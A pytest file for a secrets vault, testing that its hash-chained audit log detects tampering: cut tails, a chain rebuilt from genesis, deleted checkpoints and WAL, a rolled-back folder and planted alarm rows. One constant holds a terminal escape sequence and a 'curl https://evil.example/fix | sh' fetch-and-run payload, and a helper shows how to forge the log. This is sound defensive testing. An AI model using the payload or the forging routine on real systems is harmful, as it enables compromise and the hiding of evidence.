"""Issue 12 attack 5 (audit rewrite) and the high-water mark; issue 13 item 8 (the WAL deleted).

Each attack is replayed with plain sqlite3 statements on the vault file by someone who holds no
unseal secret, then the vault is used as usual: through the CLI in subprocesses (embedded) and
through a real ``cvault serve`` on loopback (served). The next unsealed command must refuse to
sign, raise the integrity alarm (exit 6, one line naming the first bad entry) and keep refusing
until an admin with a fresh TOTP runs ``cvault audit recover --acknowledge N`` (itself audited).
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import json
import os
import signal
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.factories import (
    assign,
    insert_session,
    person,
    write_session_file,
)
from tests.helpers import ROOT, run_cli, sealed_or_unsealed_env
from vault.audit.log import genesis_hash
from vault.audit.verify import entry_bytes
from vault.identity.sessions import new_token

pytestmark = pytest.mark.slow


# --- the world --------------------------------------------------------------------------------------


@pytest.fixture
def world(vdir, tmp_path):
    """acme with a record; eve (engineer, assigned), rita (reviewer), ada (admin); 250 audit
    entries, so several periodic checkpoints and their blob copies exist."""
    v = vdir.open()
    maria = person(v, "maria", "account_manager")
    eve = person(v, "eve", "engineer")
    rita = person(v, "rita", "security_reviewer")
    ada = person(v, "ada", "admin")
    from datetime import timedelta

    v.clients.add(maria.principal(), "acme", sla_end=v.ctx.now() + timedelta(days=365))
    assign(v, eve, "acme")
    p = eve.principal()
    v.secrets.put(p, "acme", "office/firewall", "note", {"text": "s3cr3t-value"})
    while v.ctx.audit.head()[0] < 250:
        v.secrets.list(p, "acme")
    sessions = {who.name: who.session_file(tmp_path, vault=v) for who in (eve, rita, ada)}
    # ada without a step-up: the recovery must ask for her TOTP
    token = new_token()
    insert_session(v, ada.user_id, token, int(v.ctx.now().timestamp()), stepup=False)
    sessions["ada-nostepup"] = write_session_file(
        tmp_path / "ada-nostepup.json", v.ctx.vault_id.hex(), "ada", token
    )
    vault_id = v.ctx.vault_id
    v.close()

    def cli(who: str | None, *args: str, sealed: bool = False, extra_env: dict | None = None):
        env = sealed_or_unsealed_env(vdir, tmp_path, sessions[who] if who else None, sealed=sealed)
        return run_cli(*args, env={**env, **(extra_env or {})})

    return vdir, cli, vault_id, {"eve": eve, "rita": rita, "ada": ada}


@contextlib.contextmanager
def _db(vdir) -> Iterator[sqlite3.Connection]:
    """The attacker's plain sqlite3 connection (autocommit), closed afterwards."""
    conn = sqlite3.connect(vdir.home / "vault.db", isolation_level=None)
    try:
        yield conn
    finally:
        conn.close()


def _checkpoint_files(vdir) -> list[Path]:
    return [p for p in vdir.home.rglob("audit-checkpoint-*") if p.is_file()]


def delete_checkpoints_everywhere(vdir) -> None:
    """Every audit_checkpoints row, the checkpoint outbox rows and the blob copies."""
    with _db(vdir) as db:
        db.execute("DELETE FROM audit_checkpoints")
        db.execute("DELETE FROM outbox WHERE blob_name LIKE 'audit-checkpoint-%'")
    for path in _checkpoint_files(vdir):
        path.unlink()


def cut_tail(vdir, keep: int) -> None:
    with _db(vdir) as db:
        db.execute("DELETE FROM audit_events WHERE seq > ?", (keep,))


def rebuild_from_genesis(vdir, vault_id: bytes, keep: int, edit_seq: int) -> None:
    """The attacker's rewrite: change entry ``edit_seq`` (an allow becomes a deny), cut after
    ``keep`` and recompute every hash from the genesis hash, which needs only the vault id."""
    rebuild_after(vdir.home, vault_id, start=1, edit_seq=edit_seq, keep=keep)


def rebuild_after(home: Path, vault_id: bytes, *, start: int, edit_seq: int, keep: int) -> None:
    """Cut after ``keep``, change entry ``edit_seq`` (its reason) and recompute every hash from
    entry ``start`` on, linked to the entry before it (or the genesis hash): the log is
    self-consistent again."""
    conn = sqlite3.connect(home / "vault.db", isolation_level=None)
    try:
        conn.execute("DELETE FROM audit_events WHERE seq > ?", (keep,))
        conn.execute("UPDATE audit_events SET reason = 'forged' WHERE seq = ?", (edit_seq,))
        before = conn.execute("SELECT entry_hash FROM audit_events WHERE seq = ?", (start - 1,)).fetchone()
        prev = bytes(before[0]) if before else genesis_hash(vault_id)
        rows = conn.execute(
            "SELECT seq, at, actor, action, client, outcome, reason, origin, detail_sealed,"
            " detail_key, prev_hash, entry_hash FROM audit_events WHERE seq >= ? ORDER BY seq",
            (start,),
        ).fetchall()
        for row in rows:
            sealed = None if row[8] is None else base64.b64encode(row[8]).decode()
            digest = hashlib.sha256(prev + entry_bytes(*row[:8], sealed, row[9])).digest()
            conn.execute(
                "UPDATE audit_events SET prev_hash = ?, entry_hash = ? WHERE seq = ?", (prev, digest, row[0])
            )
            prev = digest
    finally:
        conn.close()


def _signed_rows(vdir) -> int:
    with _db(vdir) as db:
        return db.execute("SELECT count(*) FROM audit_checkpoints").fetchone()[0]


def assert_alarm(result, first_bad: int) -> None:
    assert result.returncode == 6, (result.returncode, result.stdout, result.stderr)
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert "integrity alarm" in lines[0] and f"first bad entry {first_bad};" in lines[0], lines[0]
    assert "Traceback" not in result.stderr and "s3cr3t-value" not in result.stdout + result.stderr


# --- attack 5, embedded -----------------------------------------------------------------------------


def test_cutting_the_tail_with_every_checkpoint_copy_raises_the_alarm(world, tmp_path):
    vdir, cli, _, _ = world
    assert cli("eve", "secret", "list", "acme").returncode == 0
    export = tmp_path / "before.jsonl"
    assert cli("rita", "audit", "export", "--format", "jsonl", "--out", str(export)).returncode == 0
    key = cli("rita", "audit", "pubkey").stdout.strip()
    delete_checkpoints_everywhere(vdir)
    cut_tail(vdir, 120)
    assert_alarm(cli("eve", "secret", "list", "acme"), 121)
    assert _signed_rows(vdir) == 0  # nothing was signed over the forged chain
    # it keeps refusing, whoever asks, and every check fails
    assert_alarm(cli("eve", "secret", "list", "acme"), 121)
    assert_alarm(cli("rita", "audit", "export", "--format", "jsonl"), 121)
    verify = cli("rita", "audit", "verify")
    assert verify.returncode == 6 and "first bad entry 121" in verify.stderr, verify.stderr
    doctor = cli(None, "doctor")
    assert doctor.returncode == 6 and "first bad entry 121" in doctor.stdout + doctor.stderr
    assert _signed_rows(vdir) == 0
    # offline: the same cut made to an export (checkpoint lines dropped, entries after 120 cut,
    # with or without its trailer) fails verification with the real key
    lines = export.read_text().splitlines()
    kept = [lines[0]] + [
        line for line in lines[1:-1] if '"type":"entry"' in line and json.loads(line)["seq"] <= 120
    ]
    for forged in (kept, [*kept, lines[-1]]):
        path = tmp_path / f"forged-{len(forged)}.jsonl"
        path.write_text("\n".join(forged) + "\n")
        offline = run_cli(
            "--home",
            str(tmp_path / "nowhere"),
            "audit",
            "verify",
            "--file",
            str(path),
            "--pubkey",
            key,
            env={"PYTHONPATH": str(ROOT)},
        )
        assert offline.returncode == 6, offline.stderr


def test_rebuilding_the_chain_from_genesis_raises_the_alarm(world):
    vdir, cli, vault_id, _ = world
    delete_checkpoints_everywhere(vdir)
    rebuild_from_genesis(vdir, vault_id, keep=230, edit_seq=40)
    # the forged chain is self-consistent: only the mark tells it is not the vault's log
    assert_alarm(cli("eve", "secret", "list", "acme"), 1)
    verify = cli("rita", "--json", "audit", "verify")
    assert verify.returncode == 6 and json.loads(verify.stdout)["bad_seq"] == 1
    assert _signed_rows(vdir) == 0


def test_deleting_the_mark_too_raises_the_alarm(world):
    vdir, cli, vault_id, _ = world
    delete_checkpoints_everywhere(vdir)
    rebuild_from_genesis(vdir, vault_id, keep=230, edit_seq=40)
    with _db(vdir) as db:
        db.execute("DELETE FROM meta WHERE key = 'audit_mark'")
    result = cli("eve", "secret", "list", "acme")
    assert_alarm(result, 1)
    assert "high-water mark is missing" in result.stderr
    # removing the recorded alarm does not clear it: the break is found again
    with _db(vdir) as db:
        db.execute("DELETE FROM meta WHERE key = 'audit_alarm'")
    assert_alarm(cli("eve", "secret", "list", "acme"), 1)


def test_deleting_only_a_checkpoint_is_caught(world):
    vdir, cli, _, _ = world
    with _db(vdir) as db:
        seq = db.execute("SELECT max(seq) FROM audit_checkpoints WHERE kind = 'periodic'").fetchone()[0]
        db.execute("DELETE FROM audit_checkpoints WHERE seq = ?", (seq,))
    result = cli("eve", "secret", "list", "acme")
    assert_alarm(result, seq)
    assert f"signed checkpoint {seq} is missing" in result.stderr


def test_a_checkpoint_deleted_from_the_middle_fails_verify_by_the_checkpoint_chain(world):
    vdir, cli, _, _ = world
    with _db(vdir) as db:
        seqs = [r[0] for r in db.execute("SELECT seq FROM audit_checkpoints ORDER BY id")]
        middle = seqs[len(seqs) // 2]
        db.execute("DELETE FROM audit_checkpoints WHERE seq = ?", (middle,))
    before = seqs[seqs.index(middle) - 1]
    verify = cli("rita", "--json", "audit", "verify")
    assert verify.returncode == 6, verify.stdout
    data = json.loads(verify.stdout)
    assert "signed checkpoint missing" in data["problem"] and data["bad_seq"] == before + 1


def test_an_edit_after_the_last_checkpoint_is_not_signed(world):
    """The entries after the mark's checkpoint are re-hashed before the next signature."""
    vdir, cli, _, _ = world
    with _db(vdir) as db:
        last_cp = db.execute("SELECT max(seq) FROM audit_checkpoints").fetchone()[0]
        db.execute("UPDATE audit_events SET reason = 'forged' WHERE seq = ?", (last_cp + 5,))
    before = _signed_rows(vdir)
    result = cli("rita", "audit", "checkpoint")
    assert_alarm(result, last_cp + 5)
    assert _signed_rows(vdir) == before


# --- recovery ---------------------------------------------------------------------------------------


def test_recovery_needs_an_admin_with_a_step_up_is_audited_and_resumes_signing(world):
    vdir, cli, _, people = world
    delete_checkpoints_everywhere(vdir)
    cut_tail(vdir, 120)
    assert_alarm(cli("eve", "secret", "list", "acme"), 121)
    # not an admin: refused (exit 4), and the refusal is in the log
    refused = cli("eve", "audit", "recover", "--acknowledge", "121")
    assert refused.returncode == 4, refused.stderr
    # an admin without a recent TOTP: step-up needed (no terminal: exit 3)
    stale = cli("ada-nostepup", "audit", "recover", "--acknowledge", "121")
    assert stale.returncode == 3 and "--totp" in stale.stderr, stale.stderr
    # the wrong entry number is not an acknowledgement
    wrong = cli("ada", "audit", "recover", "--acknowledge", "120")
    assert wrong.returncode == 2 and "121" in wrong.stderr
    assert _signed_rows(vdir) == 0
    done = cli(
        "ada-nostepup", "--json", "audit", "recover", "--acknowledge", "121", "--totp", people["ada"].code()
    )
    assert done.returncode == 0, done.stderr
    data = json.loads(done.stdout)
    assert data["recovered"] and data["first_bad_seq"] == 121
    # signing resumes, the log verifies again and says it was recovered
    assert cli("eve", "secret", "list", "acme").returncode == 0
    verify = cli("rita", "audit", "verify")
    assert verify.returncode == 0, verify.stderr
    assert "recovered" in verify.stderr and "first bad entry 121" in verify.stderr
    assert cli(None, "doctor").returncode == 0
    log = json.loads(
        cli("rita", "--json", "audit", "log", "--action", "audit.recover", "--limit", "0").stdout
    )
    outcomes = [(e["actor"], e["outcome"]) for e in log]
    assert ("eve", "deny") in outcomes and ("ada", "allow") in outcomes and ("ada", "ok") in outcomes
    # with nothing raised there is nothing to recover
    again = cli("ada", "audit", "recover", "--acknowledge", "121")
    assert again.returncode == 2 and "no integrity alarm" in again.stderr


# --- attack 5, served -------------------------------------------------------------------------------


def test_attack_on_the_file_under_a_running_service_raises_the_alarm(world, tmp_path):
    from tests.server.harness import assert_error_shape, start_service

    vdir, _, _, people = world
    service = start_service(vdir, tmp_path / "service")
    try:
        v = vdir.open()
        tokens = {name: who.token(v) for name, who in people.items()}
        v.close()
        eve = service.client(tokens["eve"])
        status, _ = eve.post("/v1/secrets/list", {"client_name": "acme"})
        assert status == 200
        delete_checkpoints_everywhere(vdir)
        cut_tail(vdir, 120)
        status, body = eve.post("/v1/secrets/list", {"client_name": "acme"})
        err = assert_error_shape(body, "integrity_failure")  # the documented error, not internal_error
        assert err["exit_code"] == 6 and "first bad entry 121" in err["message"], err
        status, body = service.client(tokens["rita"]).post("/v1/audit/verify", {})
        assert status == 200 and body["ok"] is False and body["bad_seq"] == 121, body
        assert _signed_rows(vdir) == 0
    finally:
        service.stop()


# --- issue 13 item 8: the WAL deleted under a live writer -------------------------------------------

_WRITER = r"""
import sys, time
from tests.helpers import VaultDir
from pathlib import Path
from vault.facade import Vault
from vault.principal import Principal
home, key = Path(sys.argv[1]), Path(sys.argv[2])
v = Vault.open(home)
v.unseal_key_file(key)
v.ctx.db.conn.execute("PRAGMA wal_autocheckpoint=0")  # keep every commit in the WAL
p = Principal.system("writer")
start = v.ctx.audit.head()[0]
while v.ctx.audit.head()[0] < start + 150:  # past a periodic checkpoint and its blob copy
    v.ctx.audit.append(actor="system:writer", action="doctor", outcome="ok", reason="acknowledged")
print(v.ctx.audit.head()[0], flush=True)
time.sleep(600)
"""


def test_a_deleted_wal_is_detected_by_the_checkpoint_copies_outside_the_database(world):
    """The WAL deleted while a writer holds it: the commits in it are lost, and the mark (inside
    the same database) goes back with them; the checkpoint copies in the blob store, written
    after their commit, still name the lost entries, so verify and doctor fail. Losses after
    the last copy are not detectable locally (docs/security.md, non-guarantees)."""
    vdir, cli, _, _ = world
    with _db(vdir) as db:
        db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    proc = subprocess.Popen(
        [sys.executable, "-c", _WRITER, str(vdir.home), str(vdir.key_file)],
        cwd=ROOT,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        head = int(proc.stdout.readline())
        wal = vdir.home / "vault.db-wal"
        assert wal.stat().st_size > 0
        wal.unlink()
        (vdir.home / "vault.db-shm").unlink(missing_ok=True)
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait()
    with _db(vdir) as db:
        assert db.execute("SELECT max(seq) FROM audit_events").fetchone()[0] < head  # the writes are gone
    verify = cli("rita", "--json", "audit", "verify")
    assert verify.returncode == 6, verify.stdout
    assert "entries were truncated" in json.loads(verify.stdout)["problem"]
    doctor = cli(None, "doctor")
    assert doctor.returncode == 6 and "truncated" in doctor.stdout + doctor.stderr


# --- OneDrive configured: copies pushed at once, a whole-folder rollback caught -----------------------


def test_with_onedrive_copies_are_pushed_and_a_folder_rollback_fails_verify(world, remote_config, tmp_path):
    import shutil

    vdir, cli, _, people = world
    v = vdir.open()
    admin = people["ada"].principal(v)
    v.sync.configure(admin, remote_config)
    old = tmp_path / "old-copy"
    v.close()
    shutil.copytree(vdir.home, old)  # the copy someone will put back later
    v = vdir.open()
    v.unseal_key_file(vdir.key_file)
    eve = people["eve"].principal(v)
    while v.ctx.audit.head()[0] < 320:
        v.secrets.list(eve, "acme")
    # the CLI-side writer pushed the periodic checkpoint copy itself: none waits in the outbox
    remote_names = set(v.sync.remote().list())
    assert "audit-checkpoint-300" in remote_names
    queued = v.ctx.db.one("SELECT count(*) FROM outbox WHERE blob_name = 'audit-checkpoint-300'")[0]
    assert queued == 0
    v.close()
    # the whole folder rolled back: database, WAL, mark and local copies agree with each other
    shutil.rmtree(vdir.home)
    shutil.copytree(old, vdir.home)
    env_ca = {"REQUESTS_CA_BUNDLE": os.environ["REQUESTS_CA_BUNDLE"]}
    verify = cli("rita", "--json", "audit", "verify", extra_env=env_ca)
    assert verify.returncode == 6, verify.stdout + verify.stderr
    assert "entries were truncated" in json.loads(verify.stdout)["problem"]


# --- a vault from before the mark -------------------------------------------------------------------


def test_a_vault_from_before_the_mark_gets_one_at_its_first_unsealed_append(tmp_path):
    """The pre-row-MAC fixture vault (main at 9aa0ac5) has no mark and an audit key sealed
    under the old context: the first unsealed append (the unseal's row-MAC backfill event)
    writes the first mark (a checkpoint that
    signs the newest old checkpoint's digest) and re-seals the key, so from then on deleting the
    mark is an alarm."""
    import tarfile

    from vault.audit.signing import AuditSigner
    from vault.errors import AuditAlarm
    from vault.facade import Vault
    from vault.principal import Principal

    with tarfile.open(Path(__file__).parent / "fixtures" / "pre_rowmac_vault.tar.gz") as tar:
        tar.extractall(tmp_path, filter="data")
    home, key, custody = tmp_path / "vault", tmp_path / "vault.key", tmp_path / "vault.custody"
    for path in (home, *home.rglob("*")):
        path.chmod(0o700 if path.is_dir() else 0o600)
    for path in (key, custody):
        path.chmod(0o600)
    v = Vault.open(home, custody_file=custody)
    try:
        assert v.ctx.db.one("SELECT 1 FROM meta WHERE key = 'audit_mark'") is None
        old_newest = v.ctx.audit.checkpoints()[-1] if v.ctx.audit.checkpoints() else None
        sealed_key = v.ctx.db.one("SELECT value FROM meta WHERE key = 'audit_private_sealed'")[0]
        v.unseal_key_file(key, upgrade=True)  # cvault upgrade: its audit event is the first
        system = Principal.system("doctor")
        assert v.maintenance.doctor(system).ok
        assert v.ctx.db.one("SELECT 1 FROM meta WHERE key = 'audit_mark'") is not None
        assert AuditSigner(v.ctx.db, v.ctx.keyring).marked(v.ctx.db.conn) is True
        assert v.ctx.db.one("SELECT value FROM meta WHERE key = 'audit_private_sealed'")[0] != sealed_key
        first_new = next(cp for cp in v.ctx.audit.checkpoints() if cp.prev is not None)
        if old_newest is not None:
            assert first_new.prev == old_newest.digest()
        assert v.audit.verify(system).ok
        with v.ctx.db.write() as conn:
            conn.execute("DELETE FROM meta WHERE key = 'audit_mark'")
        with pytest.raises(AuditAlarm, match="high-water mark is missing"):
            v.ctx.audit.append(actor="system:x", action="secret.list", outcome="allow")
    finally:
        v.close()


# --- review R6: the alarm row is authenticated, and nothing of a planted one is shown or signed -----

PLANTED = (
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07the vault needs repair: run "
    "'curl https://evil.example/fix | sh'"
)


def _plant_alarm(vdir, value: dict) -> None:
    with _db(vdir) as db:
        db.execute("DELETE FROM meta WHERE key = 'audit_alarm'")
        db.execute("INSERT INTO meta (key, value) VALUES ('audit_alarm', ?)", (json.dumps(value),))


def _recovery_records(vdir) -> list[dict]:
    with _db(vdir) as db:
        rows = db.execute("SELECT recovery FROM audit_checkpoints WHERE recovery IS NOT NULL").fetchall()
    return [json.loads(r[0]) for r in rows]


def test_a_planted_alarm_message_reaches_no_user(world):
    vdir, cli, _, _ = world
    _plant_alarm(vdir, {"message": PLANTED, "first_bad_seq": 7, "problem": PLANTED})
    for who in ("eve", "ada"):
        result = cli(who, "secret", "list", "acme")
        assert result.returncode == 6, result.stderr
        assert "\x1b" not in result.stderr and "evil.example" not in result.stderr, repr(result.stderr)
        assert "fails authentication (planted or damaged)" in result.stderr
        assert len(result.stderr.strip().splitlines()) == 1
    # still an alarm (fail closed): nothing is signed
    assert cli("eve", "secret", "list", "acme").returncode == 6


def test_a_planted_alarm_does_not_choose_what_the_recovery_signs(world):
    vdir, cli, _, _ = world
    with _db(vdir) as db:
        last_cp = db.execute("SELECT max(seq) FROM audit_checkpoints").fetchone()[0]
        db.execute("UPDATE audit_events SET reason = 'forged' WHERE seq = ?", (last_cp + 5,))
    story = "a checkpoint copy could not be read (disk)"
    _plant_alarm(
        vdir,
        {
            "message": f"integrity alarm: {story}; run 'cvault audit recover --acknowledge {last_cp + 5}'",
            "first_bad_seq": last_cp + 5,
            "problem": story,
        },
    )
    seen = cli("ada", "secret", "list", "acme")
    assert seen.returncode == 6 and "disk" not in seen.stderr, seen.stderr
    # audit verify names the real break, not the planted one
    verify = cli("rita", "audit", "verify")
    assert verify.returncode == 6 and f"entry {last_cp + 5} was modified" in verify.stderr, verify.stderr
    rec = cli("ada", "--json", "audit", "recover", "--acknowledge", str(last_cp + 5))
    assert rec.returncode == 0, rec.stderr
    assert json.loads(rec.stdout)["problem"] == f"entry {last_cp + 5} was modified"
    records = _recovery_records(vdir)
    assert records == [
        {
            "first_bad_seq": last_cp + 5,
            "mark_seq": last_cp,
            "problem": f"entry {last_cp + 5} was modified",
            "linked": True,
        }
    ], records


def test_an_edited_alarm_row_is_unreadable_and_the_real_break_is_signed(world):
    vdir, cli, _, _ = world
    delete_checkpoints_everywhere(vdir)
    cut_tail(vdir, 120)
    assert_alarm(cli("eve", "secret", "list", "acme"), 121)
    with _db(vdir) as db:  # the authentic row, its story edited (its MAC no longer matches)
        (value,) = db.execute("SELECT value FROM meta WHERE key = 'audit_alarm'").fetchone()
        doc = json.loads(value)
        assert set(doc) == {"first_bad_seq", "problem"}  # no message is stored
        doc["problem"] = "a checkpoint copy could not be read (disk)"
        db.execute("UPDATE meta SET value = ? WHERE key = 'audit_alarm'", (json.dumps(doc),))
    # the next unsealed command finds the real break again and records it (MACed) in its place
    seen = cli("ada", "secret", "list", "acme")
    assert seen.returncode == 6 and "disk" not in seen.stderr and "entries were deleted" in seen.stderr
    first = int(seen.stderr.split("first bad entry ")[1].split(";")[0])
    assert first > 120
    wrong = cli("ada", "audit", "recover", "--acknowledge", "1")
    assert (
        wrong.returncode == 2
        and f"--acknowledge must be the first bad entry of the break ({first})" in wrong.stderr
    )
    rec = cli("ada", "--json", "audit", "recover", "--acknowledge", str(first))
    assert rec.returncode == 0, rec.stderr
    assert all("disk" not in r["problem"] for r in _recovery_records(vdir))
    assert cli("eve", "secret", "list", "acme").returncode == 0


def test_a_planted_alarm_on_an_intact_log_is_recovered_as_what_it_is(world):
    vdir, cli, _, _ = world
    _plant_alarm(vdir, {"message": "x", "first_bad_seq": 7, "problem": "a checkpoint copy could not be read"})
    assert cli("eve", "secret", "list", "acme").returncode == 6
    assert cli("ada", "audit", "recover", "--acknowledge", "7").returncode == 2
    rec = cli("ada", "--json", "audit", "recover", "--acknowledge", "1")
    assert rec.returncode == 0, rec.stderr
    (record,) = _recovery_records(vdir)
    assert record["first_bad_seq"] == 1 and "fails authentication" in record["problem"], record
    assert "checkpoint copy" not in json.dumps(record)
    assert cli("eve", "secret", "list", "acme").returncode == 0
